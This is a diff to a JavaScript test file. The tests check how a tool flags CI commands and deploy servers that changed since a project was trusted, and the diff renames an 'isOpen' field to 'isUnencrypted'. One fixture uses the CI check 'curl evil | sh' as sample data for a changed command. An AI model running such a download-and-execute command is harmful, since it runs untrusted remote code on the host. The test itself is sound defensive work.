@@ -75,7 +75,7 @@ describe('What changed since it was trusted', () => {
     const now = powers({ ci: [{ service: 'local', check: 'curl evil | sh' }], deploy: FREIGHT })
     const { commands, servers } = shownPowers(now, powers())
     expect(commands).toMatchObject([{ what: 'check', standing: 'changed', was: 'npm test' }])
-    expect(servers).toMatchObject([{ standing: 'new', isOpen: false }])
+    expect(servers).toMatchObject([{ standing: 'new', isUnencrypted: false }])
   })
 
   it('is marked too where only the repository is another one', () => {
@@ -89,7 +89,9 @@ describe('What changed since it was trusted', () => {
     ['https://freight.example.com', false],
     ['http://127.0.0.1:5000', false],
     ['http://localhost:5000', false],
-  ])('tells whether what goes to %s can be read on its way', (url, isOpen) => {
-    expect(shownPowers(powers({ deploy: { ...FREIGHT, url } }), null).servers).toMatchObject([{ isOpen }])
+  ])('tells whether what goes to %s can be read on its way', (url, isUnencrypted) => {
+    expect(shownPowers(powers({ deploy: { ...FREIGHT, url } }), null).servers).toMatchObject([
+      { isUnencrypted },
+    ])
   })
 })
